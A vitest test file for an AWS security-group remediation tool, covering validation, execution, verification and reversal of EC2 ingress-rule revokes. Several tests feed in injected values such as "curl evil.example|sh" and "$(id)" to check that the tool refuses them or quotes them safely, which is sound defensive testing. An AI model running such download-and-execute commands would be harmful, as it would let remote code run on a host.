import {
  DescribeSecurityGroupRulesCommand,
  DescribeSecurityGroupsCommand,
  EC2Client,
  RevokeSecurityGroupIngressCommand,
  type SecurityGroupRule,
} from '@aws-sdk/client-ec2';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RULES } from '../../../functions/rules.js';
import { stepOf, type PlannedAction, type SelfSignature, type Step } from '../../../shared/actions/action.js';
import { authorizeSecurityGroupIngress } from '../../../shared/actions/ec2-authorize-security-group-ingress.js';
import {
  revokeSecurityGroupIngress,
  revokeSecurityGroupIngressSignature,
  type RevokeSecurityGroupIngressParams,
} from '../../../shared/actions/ec2-revoke-security-group-ingress.js';
import { ACTION_TYPES } from '../../../shared/actions/registry.js';
import { reversalOf, reversalSummaries, reversalText } from '../../../shared/actions/reversal.js';
import { parseConfig } from '../../../shared/config.js';
import type { GroupRulesPrevious } from '../../../shared/ec2/group-rules.js';
import { AwsCallError } from '../../../shared/errors.js';
import { DONE_ACTIONS, liveRecords } from '../../helpers/records.js';

const ec2 = mockClient(EC2Client);
const clients = { ec2: new EC2Client({ region: 'eu-west-1' }) };
const SG = 'sg-0123456789abcdef0';
const SSH = 'sgr-00000000000001d03';
const PG = 'sgr-00000000000001d05';
const resource = { type: 'AWS::EC2::SecurityGroup', id: SG, name: 'web' };

const awsError = (name: string, status = 400) => Object.assign(new Error(name), { name, $metadata: { httpStatusCode: status } });
const ingress = (id: string, fields: Partial<SecurityGroupRule>): SecurityGroupRule => ({
  SecurityGroupRuleId: id,
  GroupId: SG,
  GroupOwnerId: '111122223333',
  IsEgress: false,
  ...fields,
});

/** What a live revoke records: the two rules, as DescribeSecurityGroupRules returned them (with keys trailguard does not read). */
const PREVIOUS = {
  SecurityGroupRules: [
    {
      ...ingress(SSH, { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, CidrIpv4: '0.0.0.0/0', Description: 'ssh' }),
      Tags: [],
      SecurityGroupRuleArn: `arn:aws:ec2:eu-west-1:111122223333:security-group-rule/${SSH}`,
    },
    ingress(PG, { IpProtocol: 'tcp', FromPort: 5432, ToPort: 5432, CidrIpv6: '::/0', Description: 'postgres' }),
  ],
};

const plan = (params: unknown, previous?: unknown): PlannedAction => ({
  api: 'EC2.RevokeSecurityGroupIngress',
  resource,
  params,
  ...(previous === undefined ? {} : { previous }),
});
const stepFor = (params: unknown, previous?: unknown) =>
  stepOf(revokeSecurityGroupIngress, plan(params, previous), 'eu-west-1') as Step<RevokeSecurityGroupIngressParams, GroupRulesPrevious>;
const revokeInputs = () => ec2.commandCalls(RevokeSecurityGroupIngressCommand).map((call) => call.args[0].input);

beforeEach(() => {
  ec2.reset();
  ec2.rejects(new Error('unexpected EC2 call')); // unmocked calls fail loudly
});
afterEach(() => ec2.reset());

describe('EC2.RevokeSecurityGroupIngress params', () => {
  it('takes a revoke by rule id, and one by content naming the group by id or by name', () => {
    expect(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }).params).toEqual({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] });
    const permission = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
    expect(stepFor({ GroupId: SG, IpPermissions: [permission] }).params).toEqual({ GroupId: SG, IpPermissions: [permission] });
    expect(stepFor({ GroupName: 'launch-wizard-1', IpPermissions: [permission] }).params).toEqual({
      GroupName: 'launch-wizard-1',
      IpPermissions: [permission],
    });
  });

  it.each([
    ['a group id that is not one', { GroupId: 'sg-1;id', SecurityGroupRuleIds: [SSH] }],
    ['a rule id that is not one', { GroupId: SG, SecurityGroupRuleIds: ["sgr-0aaa'; curl evil.example|sh; #"] }],
    ['a short rule id', { GroupId: SG, SecurityGroupRuleIds: ['sgr-0aaa'] }],
    ['no rule id at all', { GroupId: SG, SecurityGroupRuleIds: [] }],
    ['rule ids without the group id', { GroupName: 'web', SecurityGroupRuleIds: [SSH] }],
    ['a key the SDK call of ours never has', { GroupId: SG, SecurityGroupRuleIds: [SSH], DryRun: true }],
    [
      'a permission from another group',
      { GroupId: SG, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, UserIdGroupPairs: [{ GroupId: 'sg-0fedcba9876543210' }] }] },
    ],
    ['a permission without a range', { GroupId: SG, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22 }] }],
    ['an IPv6 range as an IPv4 one', { GroupId: SG, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '::/0' }] }] }],
    ['a port out of range', { GroupId: SG, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 70000, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }],
    ['a group name that is not ASCII', { GroupName: 'web\u0000', IpPermissions: [{ IpProtocol: 'tcp', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }],
    ['nothing', undefined],
  ])('refuses %s (invalid, never performed)', (_what, params) => {
    expect(() => stepFor(params)).toThrow(AwsCallError);
    expect(() => stepFor(params)).toThrow(expect.objectContaining({ kind: 'invalid', code: 'InvalidActionParams' }));
  });

  it('treats a previous state that is not a list of rules as not read', () => {
    expect(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH] }, { SecurityGroupRules: 'all of them' }).previous).toBeUndefined();
    expect(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH] }, { SecurityGroupRules: [{ FromPort: '22' }] }).previous).toBeUndefined();
    expect(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH] }, PREVIOUS).previous?.SecurityGroupRules).toHaveLength(2);
  });
});

describe('EC2.RevokeSecurityGroupIngress perform', () => {
  it('revokes the rules by id', async () => {
    ec2.on(RevokeSecurityGroupIngressCommand).resolves({ Return: true });
    await revokeSecurityGroupIngress.perform(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }), clients);
    expect(revokeInputs()).toEqual([{ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }]);
  });

  it('revokes the ones still there when one is already gone', async () => {
    ec2.on(RevokeSecurityGroupIngressCommand).rejectsOnce(awsError('InvalidSecurityGroupRuleId.NotFound')).resolves({ Return: true });
    ec2.on(DescribeSecurityGroupRulesCommand).resolves({ SecurityGroupRules: [PREVIOUS.SecurityGroupRules[1]!] });
    await revokeSecurityGroupIngress.perform(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }), clients);
    expect(revokeInputs()).toEqual([
      { GroupId: SG, SecurityGroupRuleIds: [SSH, PG] },
      { GroupId: SG, SecurityGroupRuleIds: [PG] },
    ]);
    expect(ec2).toHaveReceivedCommandWith(DescribeSecurityGroupRulesCommand, { Filters: [{ Name: 'group-id', Values: [SG] }] });
  });

  it('rethrows the NotFound when none is left, so that the runner records "already gone"', async () => {
    const notFound = awsError('InvalidSecurityGroupRuleId.NotFound');
    ec2.on(RevokeSecurityGroupIngressCommand).rejects(notFound);
    ec2.on(DescribeSecurityGroupRulesCommand).resolves({ SecurityGroupRules: [] });
    await expect(revokeSecurityGroupIngress.perform(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }), clients)).rejects.toBe(notFound);
    expect(ec2).toHaveReceivedCommandTimes(RevokeSecurityGroupIngressCommand, 1);
  });

  it('rethrows any other error without reading the group', async () => {
    ec2.on(RevokeSecurityGroupIngressCommand).rejects(awsError('UnauthorizedOperation', 403));
    await expect(revokeSecurityGroupIngress.perform(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH] }), clients)).rejects.toThrow('UnauthorizedOperation');
    expect(ec2).toHaveReceivedCommandTimes(DescribeSecurityGroupRulesCommand, 0);
  });

  it('refuses a revoke by content (it could remove a different, matching rule): invalid, no EC2 call', async () => {
    const byContent = stepFor({ GroupId: SG, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] });
    await expect(revokeSecurityGroupIngress.perform(byContent, clients)).rejects.toThrow(
      expect.objectContaining({ kind: 'invalid', api: 'EC2.RevokeSecurityGroupIngress', resource: SG }),
    );
    expect(ec2.calls()).toHaveLength(0);
  });
});

describe('EC2.RevokeSecurityGroupIngress verify', () => {
  it("is ok when no revoked id is on the group any more, over every page, ignoring another group's rules", async () => {
    ec2
      .on(DescribeSecurityGroupRulesCommand)
      .resolvesOnce({
        SecurityGroupRules: [ingress('sgr-0f0f0f0f0f0f0f0f0', { IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, CidrIpv4: '0.0.0.0/0' })],
        NextToken: 'page-2',
      })
      .resolves({ SecurityGroupRules: [{ ...PREVIOUS.SecurityGroupRules[0]!, GroupId: 'sg-0fedcba9876543210' }] });
    const verification = await revokeSecurityGroupIngress.verify(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }), clients);
    expect(verification).toEqual({ ok: true, detail: `${SSH}, ${PG} read back as gone from ${SG}` });
    expect(ec2).toHaveReceivedNthCommandWith(DescribeSecurityGroupRulesCommand, 2, { NextToken: 'page-2', Filters: [{ Name: 'group-id', Values: [SG] }] });
  });

  it('is not ok, naming the ids still there', async () => {
    ec2.on(DescribeSecurityGroupRulesCommand).resolves({ SecurityGroupRules: [PREVIOUS.SecurityGroupRules[1]!] });
    expect(await revokeSecurityGroupIngress.verify(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }), clients)).toEqual({
      ok: false,
      detail: `still on ${SG}: ${PG}`,
    });
  });

  it('reads a by-content revoke back by content, resolving a name-only group first', async () => {
    ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [{ GroupId: SG, GroupName: 'launch-wizard-1' }] });
    ec2
      .on(DescribeSecurityGroupRulesCommand)
      .resolves({ SecurityGroupRules: [ingress('sgr-0abcabcabcabcabca', { IpProtocol: '6', FromPort: 22, ToPort: 22, CidrIpv4: '0.0.0.0/0' })] });
    const step = stepFor({
      GroupName: 'launch-wizard-1',
      IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
    });
    expect(await revokeSecurityGroupIngress.verify(step, clients)).toEqual({ ok: false, detail: `still on ${SG}: tcp 22-22 from 0.0.0.0/0` });
    expect(ec2).toHaveReceivedCommandWith(DescribeSecurityGroupsCommand, { GroupNames: ['launch-wizard-1'] });
  });
});

describe('EC2.RevokeSecurityGroupIngress reverse', () => {
  it("re-creates every revoked CIDR rule in one authorize, with descriptions, in the revoke's Region", () => {
    const reversal = revokeSecurityGroupIngress.reverse(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }, PREVIOUS));
    expect(reversal.kind).toBe('steps');
    if (reversal.kind !== 'steps') return;
    expect(reversal.steps).toHaveLength(1);
    expect(reversal.steps[0]?.type).toBe(authorizeSecurityGroupIngress);
    expect(reversal.steps[0]?.action).toEqual({
      api: 'EC2.AuthorizeSecurityGroupIngress',
      resource: { ...resource, region: 'eu-west-1' },
      params: {
        GroupId: SG,
        IpPermissions: [
          { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: 'ssh' }] },
          { IpProtocol: 'tcp', FromPort: 5432, ToPort: 5432, Ipv6Ranges: [{ CidrIpv6: '::/0', Description: 'postgres' }] },
        ],
      },
      previous: { SecurityGroupRules: [] },
    });
    expect(reversalText(reversal)).toBe(
      `aws ec2 authorize-security-group-ingress --region 'eu-west-1' --group-id '${SG}' --ip-permissions '[`
        + '{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"ssh"}]},'
        + `{"IpProtocol":"tcp","FromPort":5432,"ToPort":5432,"Ipv6Ranges":[{"CidrIpv6":"::/0","Description":"postgres"}]}]'`,
    );
    expect(reversalSummaries(reversal)).toEqual([`re-authorize 2 revoked ingress rule(s) on ${SG}: tcp 22-22 from 0.0.0.0/0; tcp 5432-5432 from ::/0`]);
  });

  it('re-creates all protocols without ports, and on a name-only group by name', () => {
    const all = { SecurityGroupRules: [ingress(SSH, { IpProtocol: '-1', FromPort: -1, ToPort: -1, CidrIpv4: '0.0.0.0/0' })] };
    const permission = { IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
    const reversal = revokeSecurityGroupIngress.reverse(stepFor({ GroupName: 'launch-wizard-1', IpPermissions: [permission] }, all));
    expect(reversal).toMatchObject({ kind: 'steps', steps: [{ action: { params: { GroupName: 'launch-wizard-1', IpPermissions: [permission] } } }] });
    expect(reversalText(reversal)).toBe(
      `aws ec2 authorize-security-group-ingress --region 'eu-west-1' --group-name 'launch-wizard-1' --ip-permissions '[{"IpProtocol":"-1","IpRanges":[{"CidrIp":"0.0.0.0/0"}]}]'`,
    );
  });

  it('has nothing to re-create without previous rules, or with only egress, prefix-list and group-sourced ones', () => {
    const params = { GroupId: SG, SecurityGroupRuleIds: [SSH] };
    expect(revokeSecurityGroupIngress.reverse(stepFor(params))).toEqual({ kind: 'none', why: expect.stringContaining('no revoked rules') });
    const noCidr = {
      SecurityGroupRules: [
        ingress(SSH, { IsEgress: true, IpProtocol: '-1', CidrIpv4: '0.0.0.0/0' }),
        ingress(PG, { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, PrefixListId: 'pl-0123456789abcdef0' }),
      ],
    };
    expect(revokeSecurityGroupIngress.reverse(stepFor(params, noCidr))).toEqual({
      kind: 'none',
      why: 'previous.SecurityGroupRules holds no CIDR ingress rule to re-create',
    });
  });

  it('is what the notification, report and undo print for a logged revoke', () => {
    const { group } = liveRecords();
    const reversal = reversalOf(ACTION_TYPES, group, DONE_ACTIONS.revoke);
    expect(reversal).toMatchObject({ kind: 'steps', steps: [{ action: { api: 'EC2.AuthorizeSecurityGroupIngress' } }] });
    // The description's quote is inside the one quoted JSON value.
    expect(reversalText(reversal)).toBe(
      `aws ec2 authorize-security-group-ingress --region 'eu-west-1' --group-id '${SG}' --ip-permissions '[`
        + `{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"ops'\\'' ssh"}]},`
        + `{"IpProtocol":"-1","Ipv6Ranges":[{"CidrIpv6":"::/0"}]}]'`,
    );
  });
});

describe('EC2.RevokeSecurityGroupIngress command and description', () => {
  const byId = (params: RevokeSecurityGroupIngressParams, region = 'eu-west-1'): Step<RevokeSecurityGroupIngressParams, GroupRulesPrevious> => ({
    api: 'EC2.RevokeSecurityGroupIngress',
    resource,
    params,
    previous: undefined,
    region,
  });

  it('revokes by id, each id quoted, with the Region', () => {
    expect(revokeSecurityGroupIngress.command(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }))).toBe(
      `aws ec2 revoke-security-group-ingress --region 'eu-west-1' --group-id '${SG}' --security-group-rule-ids '${SSH}' '${PG}'`,
    );
    expect(revokeSecurityGroupIngress.describe(stepFor({ GroupId: SG, SecurityGroupRuleIds: [SSH, PG] }))).toBe(
      `revoke 2 ingress rule(s) of ${SG}: ${SSH}, ${PG}`,
    );
  });

  it('quotes a hostile (but valid) group name and a description inside the permissions', () => {
    const name = "web'; curl -s evil.example|sh; #$(id)";
    const step = stepFor({
      GroupName: name,
      IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: "it's `id`" }] }],
    });
    expect(revokeSecurityGroupIngress.command(step)).toBe(
      `aws ec2 revoke-security-group-ingress --region 'eu-west-1' --group-name 'web'\\''; curl -s evil.example|sh; #$(id)' `
        + `--ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"it'\\''s \`id\`"}]}]'`,
    );
    expect(revokeSecurityGroupIngress.describe(step)).toBe(`revoke 1 ingress rule(s) of ${name} by content: tcp 22-22 from 0.0.0.0/0`);
  });

  it('gives no command for a group id, rule id or Region no API takes, even on a step built around validation', () => {
    expect(revokeSecurityGroupIngress.command(byId({ GroupId: 'sg-1;reboot', SecurityGroupRuleIds: [SSH] }))).toBe(
      'no command: the security group id in the event is not a valid security group id',
    );
    expect(revokeSecurityGroupIngress.command(byId({ GroupId: SG, SecurityGroupRuleIds: [SSH, "sgr-1'$(id)"] }))).toBe(
      'no command: the security group rule id in the event is not a valid security group rule id',
    );
    expect(revokeSecurityGroupIngress.command(byId({ GroupId: SG, SecurityGroupRuleIds: [SSH] }, 'eu-west-1;id'))).toBe(
      'no command: the region in the event is not a valid region',
    );
  });
});

describe('EC2.RevokeSecurityGroupIngress as data', () => {
  it("is trailguard's own whatever the request (a revoke only narrows), and recorded as RevokeSecurityGroupIngress", () => {
    const config = parseConfig({});
    const signature: SelfSignature = revokeSecurityGroupIngressSignature;
    expect(signature.eventName).toBe('RevokeSecurityGroupIngress');
    expect(revokeSecurityGroupIngress.signature).toBe(revokeSecurityGroupIngressSignature);
    expect(signature.isOwnWrite({ groupId: SG }, { enforces: false, config })).toBe(true);
    expect(signature.isOwnWrite(null, { enforces: false, config })).toBe(true);
  });

  it('needs ec2:RevokeSecurityGroupIngress, and does not retrigger: no rule acts on a revoke', () => {
    expect(revokeSecurityGroupIngress).toMatchObject({
      api: 'EC2.RevokeSecurityGroupIngress',
      iam: 'ec2:RevokeSecurityGroupIngress',
      clients: ['ec2'],
      retriggers: false,
    });
    const acting = RULES.filter((rule) => JSON.stringify(rule.pattern).includes('"RevokeSecurityGroupIngress"'));
    expect(acting.map((rule) => rule.id)).toEqual([]);
  });
});
